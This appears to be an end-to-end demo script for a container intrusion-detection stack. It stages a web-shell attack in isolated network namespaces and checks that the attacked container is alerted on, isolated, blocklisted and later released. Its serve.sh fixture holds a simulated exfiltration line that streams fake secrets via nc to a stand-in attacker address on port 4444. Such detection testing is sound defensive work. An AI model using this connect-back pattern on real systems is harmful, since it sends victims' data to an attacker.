#!/usr/bin/env bash
# Starts the stack of docker-compose.yml as from a fresh clone, attacks a container beside it, and checks what the stack
# does: `make demo-compose`, as root. It uses a dockerd of its own in a network namespace of its own, and a second
# namespace for the attacker; it removes both, and everything else it made. Any check that fails ends it with 1.
# Its arguments, a program of the repository and its arguments, run in addition, in the namespace and the folder of the stack:
# deploy/demo/compose.sh deploy/dev/compose-checks.sh
set -euo pipefail

root=$(cd "$(dirname "$0")/../.." && pwd)
[ "$(id -u)" = 0 ] || { echo "demo: run this as root: it makes network namespaces and starts a dockerd" >&2; exit 1; }
work=$(mktemp -d /tmp/ipcompose.XXXXXX)
id=ipc$$
host_address=203.0.113.1 attacker=203.0.113.66 # TEST-NET-3, RFC 5737
engine='' listener='' watcher=''

finish() {
  code=$?
  trap - EXIT INT TERM
  [ "$code" = 0 ] || diagnose || true
  for pid in $listener $watcher; do kill "$pid" 2>/dev/null || true; done
  if [ -n "$engine" ]; then
    docker ps -aq | xargs -r docker rm -f >/dev/null 2>&1 || true
    kill "$engine" 2>/dev/null && wait "$engine" 2>/dev/null || true
  fi
  rm -rf "/sys/fs/bpf/$id"
  for ns in "$id-h" "$id-a"; do ip netns del "$ns" 2>/dev/null || true; done
  findmnt -rno TARGET | grep "^$work/" | tac | xargs -r umount -l 2>/dev/null || true
  rm -rf "$work"
  exit "$code"
}
diagnose() {
  [ ! -s "$work/dockerd.log" ] || { echo "The end of the log of dockerd:"; tail -n 20 "$work/dockerd.log"; } >&2
  echo "The stack when it failed:" >&2
  compose ps >&2
  compose logs --tail 12 >&2
}
trap finish EXIT INT TERM

step() { printf '\n\033[1m%s\033[0m\n' "$*"; }
on_host() { nsenter --net="/run/netns/$id-h" "$@"; }
as_attacker() { nsenter --net="/run/netns/$id-a" "$@"; }
compose() { docker-compose --project-directory "$work/ironpost" "$@"; }
ironpost() { compose exec -T hub /usr/bin/ironpost "$@"; }
sql() { compose exec -T postgresql sh -c "PGPASSWORD=\$(cat /run/secrets/postgresql/ironpost_viewer) psql -At -U ironpost_viewer -d ironpost -c \"$1\""; }
until_true() { # a command, tried for 60 s
  for _ in $(seq 120); do "$@" >/dev/null 2>&1 && return; sleep 0.5; done
  echo "demo: timed out waiting for: $*" >&2
  return 1
}

# The host, with an interface to the outside, and the attacker behind it.
ip netns add "$id-h"
ip netns add "$id-a"
ip link add wan netns "$id-h" type veth peer name wan netns "$id-a"
on_host sh -c "ip link set lo up; ip addr add $host_address/24 dev wan; ip link set wan up; ip route add default via 203.0.113.254"
as_attacker sh -c "ip link set lo up; ip addr add $attacker/24 dev wan; ip link set wan up; ip route add default via $host_address"
export DOCKER_HOST=unix://$work/docker.sock DOCKER_SOCKET=$work/docker.sock IRONPOST_AUTO_ISOLATE=true \
  COMPOSE_HTTP_TIMEOUT=180
nsenter --net="/run/netns/$id-h" dockerd --host "$DOCKER_HOST" --data-root "$work/docker" --exec-root "$work/exec" --pidfile "$work/docker.pid" \
  --shutdown-timeout 2 --log-level warn >"$work/dockerd.log" 2>&1 &
engine=$!
engine_answers() { docker info || ! kill -0 "$engine"; } # or has ended, which its log explains
until_true engine_answers
docker info >/dev/null

# A fresh clone, with the programs of bin/.
mkdir -p "$work/ironpost/bin"
cd "$work/ironpost"
cp -r "$root/Makefile" "$root/docker-compose.yml" "$root/.dockerignore" "$root/deploy" .
cp "$root"/bin/ironpost* bin/
# The guard of the stack does not see to where the shop connects: here the web shell's line is enough.
sed -i '/^id = "container-web-shell-isolate"/a require.signs = 1' deploy/compose/web-attack.toml
export POSTGRES_IMAGE=${POSTGRES_IMAGE:-postgres:16} PROMETHEUS_IMAGE=${PROMETHEUS_IMAGE:-prom/prometheus:v2.55.1}
deploy/dev/test-images.sh "$POSTGRES_IMAGE" "$PROMETHEUS_IMAGE" busybox:latest
cat >>.env <<END
IRONPOST_EBPF_PIN_PATH=/sys/fs/bpf/$id
IRONPOST_SBOM_VULN_DB_URL=
POSTGRES_IMAGE=$POSTGRES_IMAGE
PROMETHEUS_IMAGE=$PROMETHEUS_IMAGE
END

step "The images, built from bin/ without a network:"
make -o build images >"$work/build.log" 2>&1 || { tail -n 20 "$work/build.log"; exit 1; }
docker images --format '{{.Repository}} {{.Size}}' 'ironpost/*' | sort
# Without a network the vulnerability database comes from a file; here it has one advisory, for programs in Go.
mkdir osv
echo '{"schema_version":"1.6.0","id":"GO-2026-0001","modified":"'"$(date -u +%FT%TZ)"'","summary":"example","affected":[{"package":{"ecosystem":"Go",
  "name":"example.org/none"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"1.0.0"}]}]}]}' >osv/GO-2026-0001.json
docker run --rm --network none -e IRONPOST_GENERAL_DATA_DIR=/var/lib/ironpost -v ironpost_sbom-scanner:/var/lib/ironpost -v "$PWD/osv:/osv:ro" \
  ironpost/hub:local /usr/bin/ironpost vulndb import --ecosystem Go /osv >"$work/import.log" 2>&1 || { cat "$work/import.log"; exit 1; }
step "The stack starts, from nothing, by make up:"
began=$SECONDS
make -o images up >"$work/up.log" 2>&1 || { tail -n 20 "$work/up.log"; exit 1; }
grep -v -e '^Creating' -e '^deploy' "$work/up.log"
echo "from nothing to all healthy: $((SECONDS - began)) s (bar: 60 s on an idle machine)"
until_true ironpost status

# The shop's server does not know who is connected: its log names the one client there is.
step "A web shop runs in a container beside the stack."
cat >serve.sh <<'END'
#!/bin/sh
# One request. The parameter cmd has it connect to the attacker and send what it finds, as a web shell would. Its line goes to
# the log of the container, as with any web server after the work.
read -r method target version
case $target in *cmd=*)
  ({ n=0; while :; do echo "secret $n"; n=$((n + 1)); sleep 0.2; done | nc "$PEER" 4444; } </dev/null >/dev/null 2>&1 &)
  for _ in $(seq 50); do grep -q ':115C 01 ' /proc/net/tcp && break; sleep 0.1; done ;; # connected to port 4444
esac
echo "$PEER - - [$(date -u '+%d/%b/%Y:%H:%M:%S +0000')] \"$method $target $(echo "$version" | tr -d '\r')\" 200 57 \"-\" \"curl/8\"" >/proc/1/fd/1
printf 'HTTP/1.0 200 OK\r\n\r\nshop\n'
END
docker run -d --name shop --restart always -p 80:80 -v "$PWD/serve.sh:/serve.sh:ro" busybox:latest \
  sh -c 'while :; do PEER='"$attacker"' nc -l -p 80 -e sh /serve.sh; done' >/dev/null
# A server may take a connection that is half closed for one whose client has gone.
get() { { printf 'GET /%s HTTP/1.0\r\nHost: %s\r\n\r\n' "$3" "$1"; sleep 1; } | busybox nc -w 3 "$1" "$2"; } # host port path
export -f get
shop() { as_attacker bash -c "get $host_address 80 '$1'" | grep shop; }
until_true shop ""
until_true sh -c "$(declare -f ironpost compose); work=$work; ironpost status --json | grep -q '\"containers\":1[0-9]'"

# The stock nats command or, where `make deps` has not installed it, what it sends.
if [ -x "$root/bin/nats" ]; then
  nsenter --net="/run/netns/$id-h" "$root/bin/nats" --server 127.0.0.1:4222 sub ironpost.alerts --count 1 >"$work/nats.log" 2>&1 &
else
  mkfifo "$work/protocol"
  nsenter --net="/run/netns/$id-h" busybox nc 127.0.0.1 4222 <"$work/protocol" >"$work/nats.log" 2>&1 &
  exec 8>"$work/protocol"
  printf 'CONNECT {"verbose":false}\r\nSUB ironpost.alerts 1\r\nPING\r\n' >&8
fi
watcher=$!
until_true grep -q -e Subscribing -e PONG "$work/nats.log"
mkfifo "$work/quiet" # an input that does not end: the shop's nc would end with it
exec 9<>"$work/quiet"
nsenter --net="/run/netns/$id-a" busybox nc -l -p 4444 <&9 >"$work/shell.log" 2>&1 &
listener=$!

in_shop() { nsenter --net="/proc/$(docker inspect --format '{{.State.Pid}}' shop)/ns/net" "$@"; }
in_shop busybox ping -c 1 -W 2 "$attacker" >/dev/null || { echo "demo: the shop does not reach the outside before the attack" >&2; exit 1; }
step "An attacker uses a web shell, which connects back to the attacker."
shop 'uploads/x.php?cmd=nc' || true
until_true grep -q secret "$work/shell.log"

held() { ironpost quarantine list | grep -q ' held '; }
until_true held
step "Alert, isolation, and what PostgreSQL holds:"
ironpost alerts --severity high
ironpost quarantine list
state=$(docker inspect --format '{{.State.Status}} {{len .NetworkSettings.Networks}}' shop)
[ "$state" = "paused 0" ] || { echo "demo: the shop is \"$state\", want paused with 0 networks" >&2; exit 1; }
echo "shop: paused, on 0 networks"
sent=$(wc -l <"$work/shell.log")
sleep 2
[ "$(wc -l <"$work/shell.log")" = "$sent" ] || { echo "demo: the connection to the attacker goes on" >&2; exit 1; }
if in_shop busybox ping -c 1 -W 2 "$attacker" >/dev/null 2>&1; then echo "demo: the shop still reaches the attacker" >&2; exit 1; fi
echo "its connection to the attacker brought $sent lines out, none since; it reaches nothing outside"
blocked() { ironpost blocklist list | grep -q "$attacker"; }
until_true blocked
step "The kernel of the host drops the attacker's packets:"
dropped() {
  as_attacker busybox ping -c 1 -W 1 "$host_address" && return 1
  ironpost blocklist list | grep -q "^$attacker/32 .* container-guard  *[1-9]"
}
until_true dropped
ironpost blocklist list
rows() { [ "$(sql 'SELECT count(*) FROM ironpost.alerts')" -ge 1 ] && [ "$(sql 'SELECT count(*) FROM ironpost.actions')" -ge 3 ] && [ "$(sql "SELECT count(*) FROM ironpost.logs WHERE record::text LIKE '%x.php%'")" -ge 1 ]; }
until_true rows
printf 'rows: %s alerts, %s actions, %s lines\n' "$(sql 'SELECT count(*) FROM ironpost.alerts')" "$(sql 'SELECT count(*) FROM ironpost.actions')" "$(sql 'SELECT count(*) FROM ironpost.logs')"
step "Seen on the host with nats --server 127.0.0.1:4222 sub ironpost.alerts:"
until_true grep -q '"title"' "$work/nats.log"
grep -o '"title":"[^"]*"' "$work/nats.log" | head -n1

step "An operator releases the shop. Behind the socket proxy that is a restart:"
started=$(docker inspect --format '{{.State.StartedAt}}' shop)
ironpost release shop --reason "the shell is removed"
restarted() { [ "$(docker inspect --format '{{.State.Status}} {{len .NetworkSettings.Networks}}' shop)" = "running 1" ]; }
until_true restarted
[ "$(docker inspect --format '{{.State.StartedAt}}' shop)" != "$started" ] || { echo "demo: the shop was not restarted" >&2; exit 1; }
docker inspect --format 'shop: {{.State.Status}}, on {{len .NetworkSettings.Networks}} network' shop
actions() { sql "SELECT count(*) FROM ironpost.actions WHERE kind = '$1' AND phase = '$2'"; }
released() { [ "$(actions release "released' AND record->>'reason' LIKE '%was restarted%")" = 1 ]; }
until_true released
[ "$(actions isolate done)" = 1 ] && restarted || { echo "demo: $(actions isolate done) isolations were done, want 1" >&2; exit 1; }
[ "$(wc -l <"$work/shell.log")" = "$sent" ] || { echo "demo: the old connection went on after the release" >&2; exit 1; }
echo "one isolation was done, and the old connection brought out nothing more"

if [ $# -gt 0 ]; then
  export work
  on_host "$root/$1" "${@:2}"
fi
printf '\nEnd of the demo; everything it created is removed.\n'
